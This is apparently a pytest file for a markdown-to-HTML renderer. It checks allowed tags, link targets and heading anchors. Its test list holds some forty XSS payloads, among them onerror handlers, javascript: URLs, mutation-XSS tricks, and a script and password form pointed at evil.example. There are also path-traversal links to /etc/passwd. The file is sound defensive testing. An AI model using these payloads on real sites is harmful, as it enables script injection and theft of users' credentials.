"""Rendering of documents: what survives, what never does, and where links lead."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lz_sync_dagster.portal import markdown
from lz_sync_dagster.portal.markdown import MAX_RENDERED, Place, Target, anchors, render, target

DOCUMENTS = frozenset(
    {"README.md", "RUNBOOKS.md", "ENFORCEMENT_GATES.md", "docs/a b.md", "docs/README.md", "docs/net/overview.md"}
)
PLACE = Place("docs/net/firewalls.md", DOCUMENTS)
WITH_PAGE = Place("docs/net/firewalls.md", DOCUMENTS, page="https://git.example.com/lz/", branch="release/1")

ALLOWED_TAGS = set(markdown._TAGS) - {"img"}
ALLOWED_ATTRIBUTES = {"id", "title", "href", "rel", "span", "open", "start", "align", "colspan", "rowspan"}


class Inspector(HTMLParser):
    """Fails on anything that may not reach a page."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            if name == "id":
                assert (value or "").startswith(markdown.ANCHOR_PREFIX)
            if name == "href":
                assert urlsplit(value or "").scheme in {"", "http", "https", "mailto"}, value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def html_of(text: str, place: Place = PLACE) -> str:
    html = render(text, place).html
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return html


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/b.png)',
    '[x](https://a.example "t" onmouseover="alert(1)")',
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='q-dialog fullscreen' id=app>x</div>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example><link rel=x href=x>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><b>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<a name=forms><input id=attributes>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "# <script>alert(1)</script>\n## <a id=x onclick=alert(1)>h</a>",
    "<video src=x onerror=alert(1)><audio><source onerror=alert(1)>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_that_acts_survives(text: str) -> None:
    assert "<script" not in html_of(text).lower()


FRAGMENTS = st.sampled_from(
    [
        *VECTORS,
        "<b>",
        "</b>",
        "<a href=",
        "'",
        '"',
        ">",
        "&",
        "&lt;",
        "<!--",
        "\n\n",
        "`",
        "[",
        "](",
        ")",
        "|",
        "# ",
        "<p",
    ]
)


@given(parts=st.lists(FRAGMENTS | st.text(max_size=8), max_size=12))
def test_no_mixture_of_fragments_gets_through_or_raises(parts: list[str]) -> None:
    html_of("".join(parts))


@given(text=st.text(st.characters(codec=None), max_size=200))
def test_any_text_can_be_rendered(text: str) -> None:
    html_of(text).encode()


@pytest.mark.parametrize(
    "text",
    ["<div>" * 40_000, "<b><i>" * 5_000, "> " * 5_000, "[" * 20_000, "*a _b " * 8_000, "<![foo " * 3_000, "&" * 20_000],
)
def test_a_text_that_is_made_to_be_slow_is_rendered_all_the_same(text: str) -> None:
    html_of(text)


def test_what_documents_are_written_with_survives() -> None:
    html = html_of(
        "<details open><summary>More</summary>\n\nPress <kbd>Ctrl</kbd><br>twice, H<sub>2</sub>O ~~no~~\n\n</details>\n"
        "\n| a | b |\n|---|--:|\n| x | 1 |\n\n- [x] done\n- [ ] open\n\n```sh\necho '<b>'\n```\n"
    )
    for kept in ("<details open", "<summary>More</summary>", "<kbd>Ctrl</kbd>", "<br>", "<sub>2</sub>", "<s>no</s>"):
        assert kept in html
    assert '<td align="right">1</td>' in html
    assert "<li>☑ done</li>" in html
    assert "<li>☐ open</li>" in html
    assert "<pre><code>echo '&lt;b&gt;'" in html


def test_headings_have_the_anchors_of_github_with_a_prefix() -> None:
    rendered = render("# A & B\n\n## `x_y` (new)\n\n## A  B\n\n## Überblick\n\n## Überblick\n", PLACE)
    assert [heading.anchor for heading in rendered.headings] == [
        "doc-a--b",
        "doc-x_y-new",
        "doc-a--b-1",
        "doc-überblick",
        "doc-überblick-1",
    ]
    assert '<h2 id="doc-überblick-1">' in rendered.html
    assert rendered.headings[1].text == "x_y (new)"


def test_no_two_headings_share_an_anchor() -> None:
    found = anchors(["a", "a", "a-1", "a", "a-1", "", ""])
    assert len(set(found)) == len(found)


@pytest.mark.parametrize(
    ("href", "leads"),
    [
        ("overview.md", "/lz-sync/knowledge/docs/net/overview.md"),
        ("./overview.md#Plan", "/lz-sync/knowledge/docs/net/overview.md#doc-Plan"),
        ("../../RUNBOOKS.md", "/lz-sync/knowledge/RUNBOOKS.md"),
        ("/ENFORCEMENT_GATES.md#gate-1", "/lz-sync/knowledge/ENFORCEMENT_GATES.md#doc-gate-1"),
        ("../a%20b.md?plain=1", "/lz-sync/knowledge/docs/a%20b.md"),
        ("/docs/net/../net/overview.md", "/lz-sync/knowledge/docs/net/overview.md"),
        ("..", "/lz-sync/knowledge/docs/README.md"),
        ("../", "/lz-sync/knowledge/docs/README.md"),
        ("/", "/lz-sync/knowledge/README.md"),
        ("../../pmo.yaml", "/lz-sync/governance"),
        ("#Plan", "#doc-Plan"),
        ("#user-content-plan", "#doc-plan"),
        ("#%C3%BCberblick", "#doc-%C3%BCberblick"),
        ("#", "#"),
    ],
)
def test_a_link_to_what_is_synced_leads_to_its_page(href: str, leads: str) -> None:
    assert target(href, PLACE) == target(href, WITH_PAGE) == Target(leads)


def test_a_link_to_what_is_not_synced_leads_to_the_repository_or_says_so() -> None:
    assert target("main.tf#L3", WITH_PAGE) == Target(
        "https://git.example.com/lz/blob/release/1/docs/net/main.tf#L3", external=True
    )
    assert target("main.tf", PLACE) == Target(note="docs/net/main.tf is not synced")
    assert html_of("[the code](main.tf)") == '<p><span title="docs/net/main.tf is not synced">the code</span></p>\n'


@pytest.mark.parametrize("href", ["../../../etc/passwd", "/../x.md", "..%2f..%2f..%2fx"])
def test_a_link_out_of_the_repository_leads_nowhere(href: str) -> None:
    found = target(href, WITH_PAGE)
    assert found.href is None or ".." not in found.href


def test_a_link_to_another_site_tells_it_nothing() -> None:
    assert html_of("<https://a.example/x>") == (
        '<p><a href="https://a.example/x" rel="noopener noreferrer">https://a.example/x</a></p>\n'
    )
    assert 'rel="noopener noreferrer"' in html_of("[x](//a.example/x)")


def test_raw_html_links_are_pointed_too() -> None:
    assert 'href="/lz-sync/knowledge/docs/net/overview.md"' in html_of('<a href="overview.md">x</a>')


def test_an_image_becomes_a_link_with_its_text() -> None:
    assert ">the plan</a>" in html_of("![the plan](https://a.example/p.png)")
    assert "the plan</span>" in html_of("![the plan](img/p.png)")
    assert '<a href="https://c.example"' in html_of("[![badge](https://a.example/b.svg)](https://c.example)")
    assert "<img" not in html_of("<img src=x.png alt=y>")


def test_a_document_that_is_too_long_is_cut_and_says_so() -> None:
    rendered = render("word " * (MAX_RENDERED // 5 + 10), PLACE)
    assert rendered.cut
    assert not render("word", PLACE).cut
